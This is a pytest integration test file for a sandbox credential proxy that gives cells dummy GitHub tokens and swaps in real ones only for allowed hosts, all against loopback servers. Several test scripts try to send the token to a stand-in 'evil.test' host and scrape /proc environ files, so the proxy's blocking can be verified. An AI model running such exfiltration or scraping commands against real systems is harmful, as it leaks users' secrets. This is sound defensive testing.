# ruff: noqa: E501 - the cells run embedded scripts; keeping their lines whole reads better
"""Credentials through the proxy, failing closed, and ordinary users — real cells, real HTTPS.

The cell only ever holds a dummy of a credential; the proxy swaps in the real value on requests to
the credential's hosts and scrubs it back to the dummy in responses. Upstreams are the loopback
servers of tests/integration/upstream.py (trustme CA, ``up.test``/``other.test``/``evil.test``
pinned to 127.0.0.1 with ``resolve``, loopback granted by an explicit cidr rule). Nothing here
talks to any address other than 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import secrets
import shutil
import string
import subprocess
import textwrap
from pathlib import Path

import pytest
from tests.conftest import NIXCELL, cli
from tests.integration import upstream as up
from tests.integration.test_ordinary_user import NOBODY, as_nobody

import nixcell
from nixcell import CellSpec
from nixcell.errors import NetworkError

GH_ENV = "NIXCELL_TEST_GH"
ALNUM = string.ascii_letters + string.digits
SHELL_PACKAGES = ("bash", "coreutils", "curl")


def github_token() -> str:
    """A realistic personal access token: ghp_ + 36 letters and digits."""
    return "ghp_" + "".join(secrets.choice(ALNUM) for _ in range(36))


@pytest.fixture(autouse=True)
def _fresh(tls, plain):
    for server in (tls, plain):
        server.seen.clear()
        server.issued.clear()


@pytest.fixture
def real(monkeypatch) -> str:
    """The real secret, only in this (host) process's environment."""
    value = github_token()
    monkeypatch.setenv(GH_ENV, value)
    return value


def write_policy(
    path: Path, port: int, *, bind: bool = False, source: str = f"env:{GH_ENV}", extra: str = ""
) -> str:
    """up.test and other.test allowed on ``port``; the github credential is for up.test only."""
    bound = 'credential = "github"' if bind else ""
    path.write_text(
        f"""
[[rules]]
action = "allow"
port = {port}
{bound}
[rules.pattern]
host = "up.test"

[[rules]]
action = "allow"
port = {port}
[rules.pattern]
host = "other.test"

[[credentials]]
name = "github"
source = "{source}"
hosts = ["up.test"]
env = "GITHUB_TOKEN"
{extra}"""
    )
    return str(path)


def network(tls, policy: str | None, *, credentials=("github",), **extra) -> dict:
    policy_files = [policy] if policy else []
    return up.loopback_network(
        tls, policy_files=policy_files, credentials=list(credentials), **extra
    )


def sh(script: str, net: dict | None, *, packages=SHELL_PACKAGES, **fields) -> nixcell.RunResult:
    spec = CellSpec(
        command=["bash", "-c", textwrap.dedent(script)],
        packages=list(packages),
        network=net,
        **fields,
    )
    return nixcell.run(spec, capture_output=True)


def py(code: str, net: dict | None, **fields) -> nixcell.RunResult:
    spec = CellSpec(
        command=["python3", "-c", textwrap.dedent(code)],
        packages=["python3"],
        network=net,
        **fields,
    )
    return nixcell.run(spec, capture_output=True)


def dummy_of(result: nixcell.RunResult, real: str) -> str:
    """The dummy the cell printed on its first stdout line (``dummy=...``), checked for shape."""
    first = result.stdout.decode().splitlines()[0]
    assert first.startswith("dummy="), result
    dummy = first.removeprefix("dummy=")
    assert dummy != real and len(dummy) == len(real) and dummy.startswith("ghp_"), (dummy, real)
    return dummy


def header(seen: up.Seen, name: str) -> str | None:
    """A request header as the upstream received it (names compare case-insensitively)."""
    found = [v for k, v in seen.headers.items() if k.lower() == name.lower()]
    assert len(found) <= 1, (name, seen.headers)
    return found[0] if found else None


def auth(seen: up.Seen) -> str | None:
    return header(seen, "Authorization")


def nothing_leaked(result: nixcell.RunResult, real: str) -> None:
    for name, data in (("stdout", result.stdout), ("stderr", result.stderr)):
        assert real.encode() not in (data or b""), f"the real secret reached the cell's {name}"
    assert real not in (result.network_summary or "")


# -- 1-4: swapping ------------------------------------------------------------------------------


def test_cell_holds_only_the_dummy_upstream_receives_the_real(offline_set, tls, real, tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    policy = write_policy(tmp_path / "p.toml", tls.port)
    script = f"""
    printf 'dummy=%s\\n' "$GITHUB_TOKEN"
    printf %s "$GITHUB_TOKEN" > /workspace/token.txt
    curl -sS -D /workspace/response-headers.txt -H "Authorization: Bearer $GITHUB_TOKEN" {tls.url("/echo-auth")} > /workspace/response.txt
    sleep 60 &
    for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
        if cat "$f" > /workspace/one.env 2>/dev/null; then
            cat /workspace/one.env; printf '\\n== %s\\n' "$f"
        fi
    done > /workspace/environ.txt
    rm -f /workspace/one.env
    kill $!
    """
    result = sh(script, network(tls, policy), workdir=str(work))
    assert result.exit_code == 0, result
    dummy = dummy_of(result, real)

    # The upstream got the real token, and nothing else did.
    assert [(s.path, auth(s)) for s in tls.seen] == [("/echo-auth", f"Bearer {real}")]
    # The cell: its env, the file it wrote, every environ it could read, the echoed response.
    assert (work / "token.txt").read_text() == dummy
    assert (work / "response.txt").read_text() == f"auth=Bearer {dummy}\n"
    echoed = (work / "response-headers.txt").read_bytes().decode().lower()
    assert f"x-echo-auth: bearer {dummy.lower()}\r\n" in echoed, echoed
    environ = (work / "environ.txt").read_text()
    assert environ.count("\n== /proc/") >= 2, environ  # its shell's and the sleep's at least
    assert f"GITHUB_TOKEN={dummy}" in environ
    for path in work.rglob("*"):
        assert real.encode() not in path.read_bytes(), path
    nothing_leaked(result, real)


def test_other_hosts_get_the_dummy_unchanged(offline_set, tls, real, tmp_path):
    policy = write_policy(tmp_path / "p.toml", tls.port)
    script = f"""
    printf 'dummy=%s\\n' "$GITHUB_TOKEN"
    curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" {tls.url("/echo-auth", host="other.test")}
    """
    result = sh(script, network(tls, policy))
    dummy = dummy_of(result, real)
    assert [(s.host, auth(s)) for s in tls.seen] == [(f"other.test:{tls.port}", f"Bearer {dummy}")]
    assert result.stdout.decode().splitlines()[1] == f"auth=Bearer {dummy}"
    nothing_leaked(result, real)


def test_dummy_inside_a_longer_token_is_not_rewritten(offline_set, tls, real, tmp_path):
    policy = write_policy(tmp_path / "p.toml", tls.port)
    script = f"""
    printf 'dummy=%s\\n' "$GITHUB_TOKEN"
    curl -sS -o /dev/null -H "X-Note: abc${{GITHUB_TOKEN}}def" -H "X-Tail: ${{GITHUB_TOKEN}}_2" \\
         -H "X-Key: $GITHUB_TOKEN" -H "Authorization: Bearer $GITHUB_TOKEN" {tls.url("/headers")}
    """
    result = sh(script, network(tls, policy))
    dummy = dummy_of(result, real)
    [seen] = tls.seen
    assert header(seen, "X-Note") == f"abc{dummy}def"  # part of a longer token: left alone
    assert header(seen, "X-Tail") == f"{dummy}_2"
    assert header(seen, "X-Key") == real  # the same request's whole tokens were swapped
    assert auth(seen) == f"Bearer {real}"
    nothing_leaked(result, real)


def test_rule_bound_credential_is_injected(offline_set, tls, real, tmp_path):
    """nix-jail style ``credential = "github"`` on a rule: the proxy adds the header itself."""
    policy = write_policy(tmp_path / "p.toml", tls.port, bind=True)
    script = f"""
    printf 'dummy=%s\\n' "$GITHUB_TOKEN"
    curl -sS {tls.url("/echo-auth")}
    curl -sS {tls.url("/echo-auth", host="other.test")}
    """
    # No --credential: the rule alone makes the cell load the credential.
    result = sh(script, network(tls, policy, credentials=()))
    dummy = dummy_of(result, real)
    assert [(s.host, auth(s)) for s in tls.seen] == [
        (f"up.test:{tls.port}", f"Bearer {real}"),
        (f"other.test:{tls.port}", None),  # a rule without the credential injects nothing
    ]
    assert result.stdout.decode().splitlines()[1:] == [f"auth=Bearer {dummy}", "auth=None"]
    nothing_leaked(result, real)


# -- 5: OAuth -----------------------------------------------------------------------------------

OAUTH = """
import json, os, sys, urllib.request
base = sys.argv[1]
def get(path, token=None):
    req = urllib.request.Request(base + path)
    if token:
        req.add_header("Authorization", "Bearer " + token)
    with urllib.request.urlopen(req, timeout=20) as r:
        return r.read().decode()
print("dummy=" + os.environ["GITHUB_TOKEN"])
for path in ("/token", "/token-chunked"):
    issued = json.loads(get(path))["access_token"]
    print("issued=" + issued)
    print(get("/echo-auth", issued).strip())
"""


def test_oauth_token_responses_are_mapped_to_dummies(offline_set, tls, real, tmp_path):
    policy = write_policy(tmp_path / "p.toml", tls.port)
    spec = CellSpec(
        command=["python3", "-c", OAUTH, tls.url("")],
        packages=["python3"],
        network=network(tls, policy),
    )
    result = nixcell.run(spec, capture_output=True)
    assert result.exit_code == 0, result
    dummy_of(result, real)
    fixed = "gho_" + "R" * 36  # what /token hands out
    [chunked] = tls.issued  # a fresh random token, sent in two chunks split mid-token
    lines = result.stdout.decode().splitlines()[1:]
    cell_fixed, cell_chunked = lines[0].removeprefix("issued="), lines[2].removeprefix("issued=")
    for cell_token, issued in ((cell_fixed, fixed), (cell_chunked, chunked)):
        assert cell_token != issued and len(cell_token) == len(issued)
        assert cell_token.startswith("gho_")
    # The cell's dummies came back to the upstream as the real issued tokens...
    assert [(s.path, auth(s)) for s in tls.seen] == [
        ("/token", None),
        ("/echo-auth", f"Bearer {fixed}"),
        ("/token-chunked", None),
        ("/echo-auth", f"Bearer {chunked}"),
    ]
    # ...and their echoes were scrubbed back to the dummies.
    assert lines[1] == f"auth=Bearer {cell_fixed}" and lines[3] == f"auth=Bearer {cell_chunked}"
    for secret in (real, fixed, chunked):
        nothing_leaked(result, secret)


ISSUED_CELL = """
import os, re, sys, urllib.request
base, shapes = sys.argv[1], sys.argv[2:]
def get(path, token=None):
    req = urllib.request.Request(base + path)
    if token:
        req.add_header("Authorization", "Bearer " + token)
    with urllib.request.urlopen(req, timeout=20) as r:
        return r.read().decode()
print("dummy=" + os.environ["GITHUB_TOKEN"])
for shape in shapes:
    body = get("/issued/" + shape)
    [issued] = re.findall(r"ghs_[A-Za-z0-9]{36}", body)
    print("issued=" + issued)
    print(get("/echo-auth", issued).strip())
"""


def test_issued_tokens_of_any_shape_are_mapped(offline_set, tls, real, tmp_path):
    """Tokens a credential host issues outside top-level OAuth JSON (GitHub App ``token``,
    nested, ``id_token`` as text/javascript, form in text/plain, no Content-Type, a family
    token under a neutral key): the cell gets dummies, which work against the host."""
    shapes = list(up.ISSUED)
    policy = write_policy(tmp_path / "p.toml", tls.port)
    spec = CellSpec(
        command=["python3", "-c", ISSUED_CELL, tls.url(""), *shapes],
        packages=["python3"],
        network=network(tls, policy),
    )
    result = nixcell.run(spec, capture_output=True)
    assert result.exit_code == 0, result
    dummy_of(result, real)
    lines = result.stdout.decode().splitlines()[1:]
    assert len(tls.issued) == len(shapes) and len(lines) == 2 * len(shapes), result
    for shape, issued, cell_token, echo in zip(
        shapes, tls.issued, lines[0::2], lines[1::2], strict=True
    ):
        cell_token = cell_token.removeprefix("issued=")
        assert cell_token != issued and len(cell_token) == len(issued), shape
        assert echo == f"auth=Bearer {cell_token}", shape  # the echo of the real is scrubbed
    echoed = [auth(s) for s in tls.seen if s.path == "/echo-auth"]
    assert echoed == [f"Bearer {t}" for t in tls.issued]  # the host got its real tokens back
    for secret in (real, *tls.issued):
        nothing_leaked(result, secret)


CAP_CELL = """
import json, os, sys, urllib.error, urllib.request
base, n = sys.argv[1], int(sys.argv[2])
def get(path, token=None):
    req = urllib.request.Request(base + path)
    if token:
        req.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
print("dummy=" + os.environ["GITHUB_TOKEN"])
first = json.loads(get("/issued/token")[1])["token"]
for _ in range(n - 1):
    assert get("/issued/token")[0] == 200
print(json.dumps([first, get("/issued/token"), get("/echo-auth", first)]))
"""


def test_issued_token_cap_refuses_and_keeps_earlier_mappings(offline_set, tls, real, tmp_path):
    from nixcell.net.credentials import MAX_ISSUED

    policy = write_policy(tmp_path / "p.toml", tls.port)
    audit = tmp_path / "audit.jsonl"
    spec = CellSpec(
        command=["python3", "-c", CAP_CELL, tls.url(""), str(MAX_ISSUED)],
        packages=["python3"],
        network=network(tls, policy, audit=str(audit)),
    )
    result = nixcell.run(spec, capture_output=True)
    assert result.exit_code == 0, result
    first, (status, text), (_, echo) = json.loads(result.stdout.decode().splitlines()[-1])
    assert status == 502 and f"cap of {MAX_ISSUED}" in text
    assert len(tls.issued) == MAX_ISSUED + 1
    assert echo.strip() == f"auth=Bearer {first}"  # the first mapping still works, scrubbed
    assert auth(tls.seen[-1]) == f"Bearer {tls.issued[0]}"
    assert f"cap of {MAX_ISSUED}" in audit.read_text()
    for secret in (real, *tls.issued):
        nothing_leaked(result, secret)
        assert secret not in audit.read_text()


# -- 6: keyring ----------------------------------------------------------------------------------


def test_keyring_source_with_a_real_backend(offline_set, tls, tmp_path, monkeypatch):
    """keyrings.alt's PlaintextKeyring, chosen through keyringrc.cfg (in-process run) and through
    PYTHON_KEYRING_BACKEND (CLI run), both storing under a temporary XDG_DATA_HOME."""
    import keyring
    import keyring.core
    from keyrings.alt.file import PlaintextKeyring

    config, data = tmp_path / "config", tmp_path / "data"
    (config / "python_keyring").mkdir(parents=True)
    (config / "python_keyring" / "keyringrc.cfg").write_text(
        "[backend]\ndefault-keyring = keyrings.alt.file.PlaintextKeyring\n"
    )
    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
    monkeypatch.setenv("XDG_DATA_HOME", str(data))
    monkeypatch.delenv("PYTHON_KEYRING_BACKEND", raising=False)
    monkeypatch.setattr(keyring.core, "_keyring_backend", None)  # detect again, from the config
    real = github_token()
    keyring.set_password("nixcell-test", "me", real)
    assert isinstance(keyring.get_keyring(), PlaintextKeyring)
    assert (data / "python_keyring" / "keyring_pass.cfg").exists()

    policy = write_policy(tmp_path / "p.toml", tls.port, source="keyring:nixcell-test/me")
    script = f"""
    printf 'dummy=%s\\n' "$GITHUB_TOKEN"
    curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" {tls.url("/echo-auth")}
    """
    result = sh(script, network(tls, policy))
    dummy = dummy_of(result, real)
    assert result.stdout.decode().splitlines()[1] == f"auth=Bearer {dummy}"
    assert [auth(s) for s in tls.seen] == [f"Bearer {real}"]
    nothing_leaked(result, real)

    # A fresh process picks the backend from the environment variable instead.
    tls.seen.clear()
    (config / "python_keyring" / "keyringrc.cfg").unlink()
    cli_result = cli(
        "run", *(f"-p{p}" for p in SHELL_PACKAGES), "--policy", policy, "--credential", "github",
        "--allow-cidr=127.0.0.1/32", "--resolve=up.test:127.0.0.1", f"--upstream-ca={tls.ca_file}",
        "--", "bash", "-c", textwrap.dedent(script),
        env={"PYTHON_KEYRING_BACKEND": "keyrings.alt.file.PlaintextKeyring"},
    )  # fmt: skip
    assert cli_result.returncode == 0, cli_result
    assert [auth(s) for s in tls.seen] == [f"Bearer {real}"]
    assert real.encode() not in cli_result.stdout + cli_result.stderr


# -- 7: nothing leaks ----------------------------------------------------------------------------


def test_real_value_never_reaches_audit_output_logs_or_summary(
    offline_set, tls, plain, real, tmp_path, caplog
):
    caplog.set_level(logging.DEBUG)
    audit = tmp_path / "audit.jsonl"
    policy = write_policy(tmp_path / "p.toml", tls.port)
    script = f"""
    printf 'dummy=%s\\n' "$GITHUB_TOKEN"
    curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" "{tls.url("/echo-auth")}?access_token=$GITHUB_TOKEN"
    curl -sS "{tls.url("/path")}/$GITHUB_TOKEN?access_token=$GITHUB_TOKEN"
    curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" "{plain.url("/denied", host="evil.test")}?access_token=$GITHUB_TOKEN"
    curl -sS -o /dev/null "{tls.url("/x", host="evil.test")}?access_token=$GITHUB_TOKEN" || echo "connect refused"
    echo "cell stderr $GITHUB_TOKEN" >&2
    """
    result = sh(script, network(tls, policy, audit=str(audit)))
    dummy = dummy_of(result, real)
    # The real value did travel: as the header and as the query parameter, to up.test only.
    assert [(s.path, auth(s)) for s in tls.seen] == [
        (f"/echo-auth?access_token={real}", f"Bearer {real}"),
        # only a credential parameter's value is swapped: never a path segment (the cell could
        # have the host store the real value under a name of its choosing)
        (f"/path/{dummy}?access_token={real}", None),
    ]
    assert plain.seen == []
    out = result.stdout.decode()
    assert f"auth=Bearer {dummy}" in out and "connect refused" in out, out
    assert result.network_summary and "2 requests denied" in result.network_summary
    assert "evil.test" in result.network_summary
    text = audit.read_text()
    assert text.count("\n") == 4 and "evil.test" in text, text
    assert f'"path":"/path/{dummy}"' in text  # paths are logged: as the cell sent them
    assert real not in text
    assert real not in caplog.text
    for record in caplog.records:
        assert real not in record.getMessage()
    nothing_leaked(result, real)


def test_missing_credential_source_is_a_one_line_error(offline_set, tmp_path, monkeypatch):
    other = github_token()
    monkeypatch.delenv(GH_ENV, raising=False)
    monkeypatch.setenv("NIXCELL_TEST_OTHER", other)
    extra = """
[[credentials]]
name = "other"
source = "env:NIXCELL_TEST_OTHER"
hosts = ["other.test"]
env = "OTHER_TOKEN"
"""
    policy = write_policy(tmp_path / "p.toml", 443, extra=extra)
    ran = tmp_path / "ran"
    result = cli(
        "run", "-p", "bash", "-p", "coreutils", "--policy", policy,
        "--credential", "other", "--credential", "github",
        "--", "bash", "-c", f"touch {ran}",
    )  # fmt: skip
    # Only the error, plus the notice a host without nixpkgs prints before resolving.
    err = "".join(
        line
        for line in result.stderr.decode().splitlines(keepends=True)
        if not line.startswith("nixcell: no nixpkgs found on this host")
    )
    assert result.returncode != 0, result
    assert err.count("\n") == 1 and err.startswith("nixcell: "), err
    assert "Traceback" not in err and GH_ENV in err and "'github'" in err, err
    assert other not in err and other.encode() not in result.stdout
    assert not ran.exists()


# -- 8: fail closed ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "route", ["-e X=<real>", "-e X=<base64>", "-e <real>=1", "--pass-env", "argv", "argv %XX"]
)
def test_real_secret_passed_into_the_cell_is_refused(offline_set, tls, real, tmp_path, route):
    """The cell's argv and environ are in /proc for everything in it: no spelling may enter."""
    import base64
    import urllib.parse

    work = tmp_path / "work"
    work.mkdir()
    policy = write_policy(tmp_path / "p.toml", tls.port)
    fields: dict = {"workdir": str(work)}
    script = "touch /workspace/ran"
    if route == "-e X=<real>":
        fields["env"] = {"X": real}
    elif route == "-e X=<base64>":
        fields["env"] = {"X": base64.b64encode(f"user:{real}".encode()).decode()}
    elif route == "-e <real>=1":
        fields["env"] = {"T_" + real: "1"}
    elif route == "--pass-env":
        fields["pass_env"] = [GH_ENV]
    elif route == "argv":
        script += f" # {real}"
    else:
        script += f" # {''.join(f'%{ord(c):02x}' for c in real)}"
        assert urllib.parse.unquote(script.split("# ")[1]) == real
    with pytest.raises(NetworkError) as err:
        sh(script, network(tls, policy), **fields)
    assert "refusing to run" in str(err.value) and real not in str(err.value)
    assert list(work.iterdir()) == []  # the cell never ran
    assert tls.seen == []


def test_credential_file_inside_a_mounted_directory_is_refused(offline_set, tls, tmp_path):
    """A ``file:`` source the cell can see (its workdir, a bind) hands it the real value."""
    work = tmp_path / "work"
    (work / "secrets").mkdir(parents=True)
    token = work / "secrets" / "gh.txt"
    token.write_text(github_token() + "\n")
    policy = write_policy(tmp_path / "p.toml", tls.port, source=f"file:{token}")
    with pytest.raises(NetworkError) as err:
        sh("touch /workspace/ran", network(tls, policy), workdir=str(work))
    assert "credential 'github'" in str(err.value) and "refusing to run" in str(err.value)
    assert not (work / "ran").exists() and tls.seen == []
    # The same file outside anything mounted is fine.
    elsewhere = tmp_path / "work2"
    elsewhere.mkdir()
    result = sh("touch /workspace/ran", network(tls, policy), workdir=str(elsewhere))
    assert result.exit_code == 0 and (elsewhere / "ran").exists(), result


# -- 9: the proxy goes away mid-run ------------------------------------------------------------

CUT_OFF = """
import os, socket, sys, time, urllib.request
base, port = sys.argv[1], int(sys.argv[2])
def fetch(path):
    try:
        with urllib.request.urlopen(base + path, timeout=20) as r:
            return f"{r.status} {r.read().decode().strip()}"
    except Exception as e:
        return f"failed {type(e).__name__}: {getattr(e, 'reason', e)}"
print("first:", fetch("/before"), flush=True)
open("/workspace/ready", "w").close()
deadline = time.monotonic() + 120
while not os.path.exists("/workspace/go") and time.monotonic() < deadline:
    time.sleep(0.05)
print("second:", fetch("/after"), flush=True)
try:
    socket.create_connection(("127.0.0.1", port), timeout=5)
    print("direct: connected")
except OSError as e:
    print("direct:", type(e).__name__)
"""


def test_cell_is_cut_off_when_its_proxy_stops(offline_set, tls, tmp_path, monkeypatch):
    from nixcell.net import proxy

    served: list = []  # (asyncio.Server, CellNet) of each cell, as the proxy starts serving it
    serve = proxy.Proxy.serve

    async def recording_serve(self, listener, cell):
        server = await serve(self, listener, cell)
        served.append((server, cell))
        return server

    monkeypatch.setattr(proxy.Proxy, "serve", recording_serve)
    work = tmp_path / "work"
    work.mkdir()
    spec = CellSpec(
        command=["python3", "-c", CUT_OFF, tls.url(""), str(tls.port)],
        packages=["python3"],
        network=network(tls, None, credentials=(), allow_hosts=[f"up.test:{tls.port}"]),
        workdir=str(work),
        limits={"timeout": "180s"},
    )

    async def scenario() -> nixcell.RunResult:
        running = asyncio.ensure_future(nixcell.run_async(spec, capture_output=True))
        for _ in range(2400):  # the cell says when its first request is done
            if (work / "ready").exists() or running.done():
                break
            await asyncio.sleep(0.05)
        assert (work / "ready").exists(), await running
        [(server, cell)] = served
        await proxy.shared_proxy().stop(server, cell)
        (work / "go").touch()
        return await running

    result = asyncio.run(scenario())
    lines = result.stdout.decode().splitlines()
    assert lines[0] == "first: 200 ok GET /before 0", result
    assert lines[1].startswith("second: failed") and "Connection refused" in lines[1], result
    assert lines[2] == "direct: ConnectionRefusedError", result
    assert tls.paths() == ["/before"]


# -- 11: ordinary user --------------------------------------------------------------------------


def _chown_tree(top: Path, uid: int) -> None:
    for root, dirs, files in os.walk(top):
        for name in [*dirs, *files]:
            os.lchown(os.path.join(root, name), uid, uid)
    os.chown(top, uid, uid)


def test_ordinary_user_cell_with_network(user_home, tls, plain):
    """As uid 65534: the namespace helper makes a user+net namespace and nsenter starts the cell
    in it. Root resolves the packages first (the nix store is root's), as as_nobody does."""
    assert as_nobody(user_home, "run", "-p", "bash", "--", "true").returncode == 0
    state = user_home / "nixcell-home"
    # Root fills the cache; a state dir owned by another user is refused (trusted state), so
    # it is root's while root writes and the user's afterwards.
    _chown_tree(state, 0)
    subprocess.run(
        [NIXCELL, "run", "-pcurl", "--", "curl", "--version"],
        check=True,
        env={**os.environ, "NIXCELL_HOME": str(state)},
    )
    _chown_tree(state, NOBODY)
    ca = user_home / "upstream-ca.pem"
    shutil.copy(tls.ca_file, ca)
    ca.chmod(0o644)
    result = as_nobody(
        user_home,
        "run", "-p", "curl",
        f"--allow-host=up.test:{plain.port}", f"--allow-host=up.test:{tls.port}",
        "--allow-cidr=127.0.0.1/32", "--resolve=up.test:127.0.0.1", f"--upstream-ca={ca}",
        "--", "curl", "-sS", plain.url("/as-nobody"), tls.url("/as-nobody-tls"),
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stdout == b"ok GET /as-nobody 0\nok GET /as-nobody-tls 0\n", result
    assert plain.paths() == ["/as-nobody"] and tls.paths() == ["/as-nobody-tls"]
